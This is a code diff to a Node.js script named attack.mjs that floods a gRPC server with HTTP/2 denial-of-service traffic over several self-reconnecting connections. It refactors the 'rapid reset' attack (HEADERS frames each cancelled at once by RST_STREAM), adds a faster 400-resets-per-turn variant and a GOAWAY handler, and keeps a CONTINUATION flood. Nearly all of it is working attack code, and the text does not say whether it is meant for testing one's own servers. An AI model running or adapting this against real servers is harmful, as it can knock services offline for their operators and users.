@@ -1,8 +1,8 @@
 // @ts-check
 // `attack.mjs NAME HOST:PORT PATH`: attacks a gRPC server until it is ended, over a few connections that are made again when
-// they are cut. Prints how often that was when it ends.
+// they are cut, or told to end. Prints how often that was when it ends.
 import { connect } from 'node:net';
-import { flags, frame, headerBlock, preface, requestHeaders, types } from './frames.mjs';
+import { flags, frame, frameReader, headerBlock, preface, requestHeaders, types } from './frames.mjs';
 
 const [name = '', address = '', path = ''] = process.argv.slice(2);
 const [host = '', port = ''] = address.split(':');
@@ -15,14 +15,8 @@ const everyMs = 5;
  * @type {Readonly<Record<string, { connections: number, turn: (stream: () => number, turn: number) => Buffer[], reads?: boolean }>>}
  */
 const attacks = {
-  'rapid reset': {
-    connections: 4,
-    turn: (stream) =>
-      repeat(25, () => {
-        const id = stream();
-        return [frame(types.headers, flags.endHeaders, id, request), frame(types.reset, 0, id, Buffer.of(0, 0, 0, 8))];
-      }),
-  },
+  'rapid reset': { connections: 4, turn: (stream) => resets(25, stream) },
+  'rapid reset, as fast as it is read': { connections: 4, turn: (stream) => resets(400, stream) },
   'CONTINUATION flood': {
     connections: 4,
     turn: (_, turn) =>
@@ -96,8 +90,14 @@ function open(attack) {
   const next = () => (stream += 2);
   socket.on('error', () => undefined);
   socket.on('connect', () => socket.write(preface));
-  if (attack.reads ?? true) socket.resume();
-  else socket.pause();
+  if (attack.reads ?? true) {
+    const read = frameReader((type) => {
+      if (type === types.goaway) socket.destroy();
+    });
+    socket.on('data', read);
+  } else {
+    socket.pause();
+  }
   const timer = setInterval(() => {
     if (socket.connecting || socket.writableNeedDrain) return;
     const frames = attack.turn(next, turn++);
@@ -107,6 +107,18 @@ function open(attack) {
     clearInterval(timer);
     cut++;
     setTimeout(() => open(attack), 50);
+  });
+}
+
+/**
+ * @param {number} times
+ * @param {() => number} stream
+ * @returns {Buffer[]} calls that are left as soon as they are made
+ */
+function resets(times, stream) {
+  return repeat(times, () => {
+    const id = stream();
+    return [frame(types.headers, flags.endHeaders, id, request), frame(types.reset, 0, id, Buffer.of(0, 0, 0, 8))];
   });
 }
 
